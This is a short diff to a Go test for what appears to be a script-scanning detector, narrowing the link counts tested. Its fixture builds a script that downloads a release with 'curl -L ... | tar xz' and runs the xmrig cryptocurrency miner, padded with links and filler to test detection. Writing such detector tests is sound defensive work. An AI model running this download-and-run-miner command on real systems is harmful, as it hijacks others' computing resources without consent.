@@ -135,7 +135,7 @@ func TestHoldKeepsTheStrongest(t *testing.T) {
 	ind := shipped(t)
 	const link = "see https://github.com/xmrig/xmrig\n"
 	far := strings.Repeat("#\n", 2*reach)
-	for _, links := range []int{maxLinks - 1, maxLinks, maxLinks + 1, 3 * maxLinks} {
+	for _, links := range []int{maxLinks, maxLinks + 1} {
 		content := strings.Repeat(link, links) + far + "curl -L " + release + " | tar xz\n./xmrig-6.21.0/xmrig\n" + far + strings.Repeat(link, links)
 		found := indicatortest.Inspect(ind, indicator.File{Path: "a.sh", Kind: trust.KindScript}, []byte(content), indicatortest.Drive{})
 		strongest := trust.Context
